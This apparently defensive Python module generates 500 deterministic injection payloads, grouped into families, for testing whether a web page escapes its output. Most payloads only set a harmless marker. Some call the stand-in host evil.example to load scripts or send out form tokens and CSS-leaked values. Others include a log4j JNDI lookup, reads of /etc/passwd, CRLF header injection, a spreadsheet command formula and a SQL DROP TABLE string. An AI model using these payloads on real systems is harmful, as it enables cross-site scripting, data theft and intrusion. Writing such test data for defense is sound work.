"""Five hundred hostile words: what breaks out of a page that does not escape, in families that can be told apart.

``payloads()`` gives the same list every time. Each ends in a plain word with its number, so that no field is empty once what
cannot be printed is left out; none holds a blank line, which would be another paragraph, or half a surrogate pair, which no
text on record can hold.
"""

from __future__ import annotations

import random
from itertools import product

COUNT = 500
LONGEST = 200
CALL = "window.broken=1"
"""What a payload does when it gets to run: whoever looks at the page can see it."""

BREAKOUTS = (
    "", '">', "'>", "`>", "-->", "]]>", "</p>", "</a>", "</bdi></span>", "</q>", "</td></tr></table>", "</li></ul>", "</form>",
    "</main>", "</title>", "</textarea>", "</option></select>", "</script>", "</style>", "</svg>", "</noscript>", "</template>",
    "</iframe>", "</xmp>", "</body></html>",
)  # fmt: skip
ELEMENTS = (
    "<script>{call}</script>", "<script src=//evil.example/x.js></script>", "<script type=module>{call}</script>",
    "<img src=x onerror={call}>", "<svg onload={call}>", "<svg><script>{call}</script></svg>", "<svg><animate onbegin={call}>",
    "<svg><use href='data:image/svg+xml,<svg id=x/>#x'/>", "<body onload={call}>", "<iframe src=javascript:{call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>", "<video><source onerror={call}></video>", "<audio src=x onerror={call}>",
    "<input autofocus onfocus={call}>", "<details open ontoggle={call}>", "<marquee onstart={call}>", "<object data=x.swf>",
    "<embed src=//evil.example/x>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{{display:none}}</style>", "<form action=//evil.example><input name=token>",
    "<button form=x formaction=javascript:{call}>go</button>", "<a href=javascript:{call}>click</a>", "<math><mtext><img src=x onerror={call}>",
    "<template><script>{call}</script></template>", "<table><tr><td>cell", "<!--", "<![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE html>",
    "<x onclick={call} tabindex=1>focus", "<plaintext>", "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<svg></p><style><a id='</style><img src=1 onerror={call}>'>", "<select><option><script>{call}</script>", "<textarea>", "<title>",
    "<frameset onload={call}>", "<portal src=//evil.example>", "<isindex type=image src=x onerror={call}>",
)  # fmt: skip
ATTRIBUTES = (
    'onmouseover="{call}"', "onfocus={call} autofocus", "style=animation-name:x onanimationstart={call}", "href=javascript:{call}",
    "src=//evil.example/x", "formaction=javascript:{call}", "accesskey=x onclick={call}", "class=hidden id=content", "dir=rtl hidden",
    "aria-label=nothing role=alert", "data-take=f-content data-key=a", "data-story data-copies data-drop=1", "contenteditable", "is=x-a",
)  # fmt: skip
QUOTES = ('" ', "' ", "` ", "/", "\t", "\n", "\x0c", "\" '")
SCHEMES = (
    "javascript:{call}", "JaVaScRiPt:{call}", "java\tscript:{call}", "java\nscript:{call}", " javascript:{call}", "\x01javascript:{call}",
    "javascript&colon;{call}", "&#106;avascript:{call}", "javascript://%0a{call}", "vbscript:msgbox(1)", "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload={call}>", "blob:null/x", "file:///etc/passwd",
    "view-source:x", "//evil.example/x", "\\\\evil.example\\x", "/\\evil.example", "http:evil.example", "https://a@evil.example", "http://[::1]/",
    "https://evil.example/\"onmouseover={call}", "mailto:a@b?subject=<script>", "ftp://evil.example", "intent://x#Intent;end", "../../etc/passwd",
    "%2e%2e%2f%2e%2e%2f", "?next=//evil.example", "#</a><script>{call}</script>",
)  # fmt: skip
TEMPLATES = (
    "{{{{7*7}}}}", "{{{{config}}}}", "{{% raw %}}", "{{% endblock %}}", "{{% include 'x' %}}", "{{# comment", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>",
    "<%- include x %>", "[[${{7*7}}]]", "{{{{constructor.constructor('{call}')()}}}}", "{{{{''.__class__.__mro__}}}}", "*{{7*7}}", "@(7*7)",
    "$(touch x)", "`touch x`", "{{0.__class__}}", "%(name)s", "%s%n%x", "{{}}", "{{page.__init__}}", "v-html=x", "ng-app ng-csp", "x-data x-init={call}",
    "hx-get=//evil.example", "<?php echo 1 ?>", "{{{{{{x}}}}}}", "~{{x}}", "${{jndi:ldap://evil.example/x}}",
)  # fmt: skip
STYLES = (
    "}}*{{display:none}}", "x;background:url(//evil.example/x)", "expression({call})", "@import '//evil.example/x.css';",
    "</style><script>{call}</script>", "position:fixed;inset:0;z-index:9999", "-moz-binding:url(x)", "behavior:url(x.htc)", "*/body{{}}/*",
    "\\3c script\\3e", "url('javascript:{call}')", "content:attr(value)", "input[value^=a]{{background:url(//evil.example/a)}}", "calc(1px",
    "unicode-range:U+41", "@font-face{{src:url(//evil.example/f)}}", "--x:{{}}", "color:red!important",
)  # fmt: skip
SCRIPTS = (
    '"}},{{"@context":"https://schema.org"}}', '"]}}</script><script>{call}</script>', "</script\n><script>{call}</script>", "<!--<script>",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e", "\\x3cscript\\x3e", "');{call}//", '");{call}//', "`;{call};`", "*/{call}/*", "\\');{call}//",
    "\u2028{call}\u2028", "\u2029{call}", "__proto__", "constructor", '{{"__proto__":{{"x":1}}}}', "]]]]><![CDATA[>", "&quot;;{call}//", "</SCRIPT >",
    "NaN", "1e999", "undefined", "null\\", '\\"', "//# sourceMappingURL=//evil.example/x", "import('//evil.example/x')", "setTimeout`{call}`",
    "<script>/*", "on{{}}=", "-{call}-",
)  # fmt: skip
ENTITIES = (
    "&lt;script&gt;{call}&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&#x0003c;b&#x0003e;", "&amp;lt;b&amp;gt;", "%3Cscript%3E",
    "%253Cscript%253E", "\uff1cscript\uff1e", "\u2039script\u203a", "\u02c2b\u02c3", "&lt", "&#0;", "&#xD800;", "&NewLine;", "&nbsp;&shy;",
    "&#8238;", "+ADw-script+AD4-", "\x1b$B<script>", "\xbcscript\xbe", "&apos;&quot;", "&#x22;&#x27;", "&copy=1", "&ngE;<b>", "<\x00script>",
    "<scr\x00ipt>", "<\u200bscript>", "<script\u00a0src=x>", "<\u0131mg src=x onerror={call}>", "\u017fcript", "<\u212amg>",
)  # fmt: skip
DIRECTIONS = (
    "\u202e{text}", "\u202d{text}", "\u202a{text}", "\u2066{text}", "\u2067{text}", "\u2068{text}", "\u2069{text}", "\u202c{text}", "\u200e{text}\u200f",
    "\u061c{text}", "\u202e{text}\u202c", "\u2067{text}\u2069\u202e", "\u05d0\u05d1 {text} \u0645\u0631", "\ufeff{text}", "\u200b{text}\u200d",
    "\u2060{text}", "\u00ad{text}", "e\u0301\u0301\u0301\u0301\u0301{text}", "\u0300{text}", "\U000e0041{text}", "\ufffe{text}", "\uffff{text}",
    "\ufdd0{text}", "\U0001f468\u200d\U0001f469\u200d\U0001f467{text}", "\u034f{text}", "\ufff9{text}\ufffb", "\U000f0000{text}", "\u2800{text}",
    "\u3164{text}", "\ufdfa{text}",
)  # fmt: skip
CONTROLS = (
    "\x00{text}", "\x07{text}", "\x08{text}", "\x0b{text}", "\x0c{text}", "\x1b[2J{text}", "\x1b]0;x\x07{text}", "\x7f{text}", "\x85{text}", "\x9b31m{text}",
    "\r{text}", "\t{text}", "\n{text}", "\r\nSet-Cookie: a=b {text}", "\r\nLocation: //evil.example {text}", "{text}\u2028{text}", "\x1a{text}", "\x04{text}",
    "{text}\x00{text}", "\x1f{text}",
)  # fmt: skip
FORMULAS = (
    "=cmd|'/c x'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("//evil.example")',
    "\t=1+1",
    "\r=1+1",
    "%0A=1",
    '=1+1";=2+2',
    "'; DROP TABLE statements; --",
)
CLOBBERS = (
    "<form id=content>", "<a id=text href=//evil.example>", "<img name=getElementById>", "<input id=search name=q>", "<p id=at-s-0 data-story>",
    "<div data-key=a>", "<a data-hit>", "<form name=body>", "<object name=location>", "<iframe name=top>", "<embed name=opener>", "<p data-take=f-content>",
)  # fmt: skip


def families() -> dict[str, list[str]]:
    """Every payload that the families give, without number or ending, by family."""
    broken = [first + second for first, second in product(BREAKOUTS, ELEMENTS)]
    inside = [quote + words for quote, words in product(QUOTES, ATTRIBUTES)]
    words = "<b>{call}</b>"
    return {
        "markup": [item.format(call=CALL) for item in broken],
        "attribute": [item.format(call=CALL) for item in inside],
        "address": [item.format(call=CALL) for item in SCHEMES],
        "template": [item.format(call=CALL) for item in TEMPLATES],
        "style": [item.format(call=CALL) for item in STYLES],
        "script": [item.format(call=CALL) for item in SCRIPTS],
        "entity": [item.format(call=CALL) for item in ENTITIES],
        "direction": [item.format(text=words.format(call=CALL)) for item in DIRECTIONS],
        "control": [item.format(text=words.format(call=CALL)) for item in CONTROLS],
        "formula": list(FORMULAS),
        "clobber": list(CLOBBERS),
    }


def payloads(count: int = COUNT) -> list[str]:
    """``count`` payloads from all families: the small ones whole, the rest of the count from the large ones, mixed in order."""
    dice = random.Random(11)
    found = families()
    chosen = [item for name, some in found.items() if name not in ("markup", "attribute") for item in some]
    chosen += dice.sample(found["attribute"], 60)
    chosen += dice.sample(found["markup"], COUNT - len(chosen))
    dice.shuffle(chosen)
    return [f"{words} w{number}" for number, words in enumerate(chosen[:count])]
